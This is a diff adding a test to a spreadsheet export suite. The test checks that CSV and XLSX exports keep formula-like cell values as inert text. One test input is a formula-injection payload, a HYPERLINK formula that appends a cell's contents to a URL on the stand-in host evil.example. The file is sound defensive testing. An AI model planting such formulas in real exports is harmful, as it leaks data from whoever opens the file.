@@ -150,6 +150,27 @@ describe('exports', () => {
 		expect(parsed.slice(1).map((l) => l[1])).toEqual(rows.map((r) => r.name));
 	});
 
+	it('CSV and XLSX: a cell that a spreadsheet would run as a formula stays text', async () => {
+		const evil = [
+			'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
+			'+1+1',
+			'-2+3',
+			'@SUM(1,1)',
+			'\t=1+1',
+			'\r=1+1'
+		];
+		const tricky = evil.map((name, i) => ({ ...rows[0]!, name, approval_number: i ? null : '-5' }));
+		const parsed = parse(Buffer.from(overviewCsv(tricky, 'vi')), { bom: true }) as string[][];
+		expect(parsed.slice(1).map((l) => l[1])).toEqual(evil.map((n) => `'${n}`));
+		// Numbers are numbers, not formulas: a level stays unquoted.
+		expect(parsed[1]![4]).toBe(String(rows[0]!.approved_level));
+		const wb = new ExcelJS.Workbook();
+		await wb.xlsx.load(Buffer.from(await overviewXlsx(tricky, 'vi')) as never);
+		const cell = wb.worksheets[0]!.getRow(2).getCell(2);
+		expect(cell.type).toBe(ExcelJS.ValueType.String);
+		expect(cell.formula).toBeUndefined();
+	});
+
 	it('XLSX: the same rows read back with exceljs', async () => {
 		const wb = new ExcelJS.Workbook();
 		await wb.xlsx.load(Buffer.from(await overviewXlsx(rows, 'vi')) as never);
